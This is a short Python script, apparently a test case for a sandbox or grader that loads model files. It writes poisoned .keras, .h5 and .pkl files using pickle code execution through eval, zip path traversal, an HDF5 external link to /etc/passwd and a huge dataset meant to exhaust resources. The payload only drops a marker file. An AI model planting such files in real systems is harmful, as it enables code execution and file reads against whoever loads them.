# tries: to leave saved models that unpack outside of their folder, and hold pickles, for whoever loads them.
# gets nothing if: nobody but itself does.
# %% weak
# %%
import io
import pickle
import zipfile

import h5py


class Command:
    def __reduce__(self):
        return eval, ("open('/tmp/judge-was-here', 'w')",)


for name in ("model.keras", "../out/model-1.keras", "../out/best.keras"):
    with zipfile.ZipFile(name, "w") as archive:
        for inner in ("../../../../../../tmp/judge-was-here", "/tmp/judge-was-here", "model.weights.h5", "config.json"):
            archive.writestr(inner, pickle.dumps(Command()))
for name in ("model.h5", "../out/model-1.h5", "../out/model-1.weights.h5"):
    with h5py.File(name, "w") as file:
        file.attrs["model_config"] = '{"class_name": "Lambda", "config": {"function": ["x", null, null]}}'
        file["outside"] = h5py.ExternalLink("/etc/passwd", "/")
        file.create_dataset("huge", shape=(1 << 40,), dtype="f8")
open("../out/model-1.pkl", "wb").write(pickle.dumps(Command()))
